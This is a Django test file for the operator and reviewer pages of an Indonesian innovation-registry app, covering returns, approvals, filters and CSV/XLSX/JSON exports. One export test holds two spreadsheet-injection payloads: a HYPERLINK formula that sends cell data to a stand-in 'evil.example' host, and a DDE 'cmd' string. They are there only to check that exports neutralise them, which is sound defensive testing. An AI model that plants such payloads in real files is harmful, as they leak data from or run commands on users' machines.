"""The operator and reviewer pages: lists, queues, the detail page, actions without JavaScript."""

import csv
import datetime
import io
import json
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from satu.core.testing.personas import grant
from satu.innovations import deadlines, sections, services
from satu.innovations.models import Status

from .conftest import advance, complete_values

pytestmark = pytest.mark.django_db


def test_the_operator_sees_the_return_reason_on_the_innovation(
    client, draft, operator, agency_head
):
    services.submit_innovation(operator, draft)
    services.return_innovation(agency_head, draft, "Lampirkan SK Kepala Dinas.")
    client.force_login(operator)
    html = client.get(reverse("innovations:detail", args=[draft.pk])).content.decode()
    assert "Dikembalikan untuk perbaikan" in html
    assert "Lampirkan SK Kepala Dinas." in html
    assert "Ajukan kembali" in html
    listing = client.get(reverse("innovations:queue")).content.decode()
    assert draft.name in listing and "operator OPD" in listing


def test_the_detail_page_lists_what_is_missing_before_submitting(client, operator, agency_a):
    innovation = services.create_innovation(
        operator, agency_a, complete_values(results_after="", goals="")
    )
    client.force_login(operator)
    html = client.get(reverse("innovations:detail", args=[innovation.pk])).content.decode()
    assert "Sebelum mengajukan, lengkapi:" in html
    assert "Tujuan" in html and "Hasil setelah inovasi" in html
    response = client.post(reverse("innovations:act", args=[innovation.pk, "ajukan"]))
    assert response.status_code == 302
    innovation.refresh_from_db()
    assert innovation.status == Status.DRAFT
    page = client.get(response["Location"]).content.decode()
    assert "Inovasi belum lengkap" in page


def test_a_return_without_a_reason_is_refused_on_the_page(client, draft, operator, agency_head):
    services.submit_innovation(operator, draft)
    client.force_login(agency_head)
    url = reverse("innovations:act", args=[draft.pk, "kembalikan"])
    response = client.post(url, {"reason": "  "})
    assert response.status_code == 200
    assert "Tuliskan alasannya" in response.content.decode()
    draft.refresh_from_db()
    assert draft.status == Status.SUBMITTED
    response = client.post(url, {"reason": "Perbaiki tanggal."})
    assert response.status_code == 302
    draft.refresh_from_db()
    assert draft.status == Status.RETURNED


def test_a_step_that_is_no_longer_possible_says_so(client, draft, operator, agency_head):
    services.submit_innovation(operator, draft)
    client.force_login(agency_head)
    client.post(reverse("innovations:act", args=[draft.pk, "setujui"]))
    response = client.post(reverse("innovations:act", args=[draft.pk, "setujui"]), follow=True)
    assert "langkah itu tidak dapat dilakukan sekarang" in response.content.decode()


def test_the_deadline_appears_once_a_programme_year_has_one(client, operator, draft):
    client.force_login(operator)
    year = draft.programme_year
    assert "batas waktu" not in client.get(reverse("innovations:list")).content.decode()
    deadlines.set_deadline_provider(lambda y: datetime.date(y, 3, 31) if y == year else None)
    try:
        listing = client.get(reverse("innovations:list")).content.decode()
        detail = client.get(reverse("innovations:detail", args=[draft.pk])).content.decode()
    finally:
        deadlines.set_deadline_provider(None)
    assert f"batas waktu tahun program {year}" in listing
    assert f"batas waktu 31 Maret {year}" in detail


def test_other_capabilities_can_add_a_section_to_the_detail_page(client, operator, draft, settings):
    settings.TEMPLATES = [{**settings.TEMPLATES[0], "DIRS": [Path(__file__).parent / "templates"]}]
    calls = []

    def survey_section(request, innovation):
        calls.append(innovation.pk)
        return "innovations/_test_section.html", {"text": "Perbandingan IKM"}

    provider = sections.register_detail_section(order=10)(survey_section)
    try:
        client.force_login(operator)
        response = client.get(reverse("innovations:detail", args=[draft.pk]))
    finally:
        sections._providers.remove((10, provider))
    assert calls == [draft.pk]
    assert '<section class="test-section">Perbandingan IKM</section>' in response.content.decode()


def test_an_operator_of_two_agencies_chooses_one_first(client, operator, agency_b):
    grant(operator, "operator", agency_b)
    client.force_login(operator)
    response = client.get(reverse("innovations:create"))
    assert "Untuk perangkat daerah mana?" in response.content.decode()
    response = client.get(reverse("innovations:create") + f"?agency={agency_b.pk}")
    assert response.context["agency"] == agency_b


def test_lists_need_a_bounded_number_of_queries(
    client, operator, agency_head, secretariat, agency_a, django_assert_max_num_queries
):
    for number in range(8):
        innovation = services.create_innovation(
            operator, agency_a, complete_values(name=f"Inovasi {number}")
        )
        advance(innovation, operator, agency_head, secretariat)
    client.force_login(secretariat)
    with django_assert_max_num_queries(14):
        response = client.get(reverse("innovations:list"))
    assert response.context["page_obj"].paginator.count == 8
    with django_assert_max_num_queries(12):
        client.get(reverse("innovations:queue"))


def test_filters_narrow_the_list(client, operator, agency_a):
    services.create_innovation(operator, agency_a, complete_values(name="Antrean Puskesmas"))
    services.create_innovation(
        operator, agency_a, complete_values(name="Bank Sampah", stage="inisiatif")
    )
    client.force_login(operator)
    page = client.get(reverse("innovations:list") + "?stage=inisiatif").context["page_obj"]
    assert [i.name for i in page] == ["Bank Sampah"]
    page = client.get(reverse("innovations:list") + "?q=antrean").context["page_obj"]
    assert [i.name for i in page] == ["Antrean Puskesmas"]
    exported = client.get(reverse("innovations:export", args=["json"]) + "?q=sampah")
    assert [item["nama"] for item in json.loads(exported.content)] == ["Bank Sampah"]


FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Lihat bukti")'


def test_the_exports_write_formula_like_text_as_text(client, operator, agency_a):
    innovation = services.create_innovation(
        operator, agency_a, complete_values(name=FORMULA, goals="-2+3+cmd|' /C calc'!A0")
    )
    client.force_login(operator)

    xlsx = client.get(reverse("innovations:export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = {cell.value: cell for cell in sheet[2]}
    assert cells[FORMULA].data_type == "s"
    assert cells["-2+3+cmd|' /C calc'!A0"].data_type == "s"
    assert cells[innovation.pk].data_type == "n"  # numbers stay numbers
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)

    exported = client.get(reverse("innovations:export", args=["csv"]))
    [record] = csv.DictReader(io.StringIO(b"".join(exported).decode("utf-8-sig")))
    assert record["nama"] == "'" + FORMULA
    assert record["tujuan"] == "'-2+3+cmd|' /C calc'!A0"

    profile = client.get(reverse("innovations:profile_export", args=[innovation.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(profile.content)).active
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert FORMULA in [cell.value for row in sheet.iter_rows() for cell in row]


def test_the_profile_download_has_every_field(client, operator, draft):
    client.force_login(operator)
    response = client.get(reverse("innovations:profile_export", args=[draft.pk, "json"]))
    rows = {item["field"]: item["value"] for item in json.loads(response.content)}
    assert rows["Nama inovasi"] == draft.name
    assert rows["Status"] == "Draf"
    assert rows["Urusan utama"] == "2. Kesehatan"


def test_the_reviewer_queue_and_the_whole_chain_through_the_pages(
    client, draft_k, operator_k, agency_head_k, regional_admin, secretariat
):
    def act(person, slug):
        client.force_login(person)
        response = client.post(reverse("innovations:act", args=[draft_k.pk, slug]))
        assert response.status_code == 302, slug

    act(operator_k, "ajukan")
    client.force_login(agency_head_k)
    assert draft_k.name in client.get(reverse("innovations:queue")).content.decode()
    act(agency_head_k, "setujui")
    client.force_login(regional_admin)
    assert draft_k.name in client.get(reverse("innovations:queue")).content.decode()
    act(regional_admin, "verifikasi")
    act(secretariat, "terima")
    draft_k.refresh_from_db()
    assert draft_k.status == Status.ACCEPTED
    client.force_login(secretariat)
    html = client.get(reverse("innovations:detail", args=[draft_k.pk])).content.decode()
    assert "Buka kembali untuk perbaikan" in html


def test_the_form_parts_show_every_editable_field_once():
    from satu.innovations.forms import InnovationProfileForm
    from satu.innovations.history import EDITABLE_FIELDS

    shown = [name for _legend, names in InnovationProfileForm.FIELDSETS for name in names]
    assert sorted(shown) == sorted(EDITABLE_FIELDS)


def test_an_innovation_accepted_early_on_new_years_day_exports_the_new_year(
    client, operator, agency_a
):
    innovation = services.create_innovation(operator, agency_a, complete_values())
    # 05:30 WIB on 1 January is still 31 December in UTC, the database's time zone.
    innovation.accepted_at = datetime.datetime(2026, 12, 31, 22, 30, tzinfo=datetime.UTC)
    innovation.status = Status.ACCEPTED
    innovation.save()
    client.force_login(operator)
    exported = client.get(reverse("innovations:export", args=["json"]))
    [record] = [item for item in json.loads(exported.content) if item["id"] == innovation.pk]
    assert record["tanggal_diterima"] == "2027-01-01"
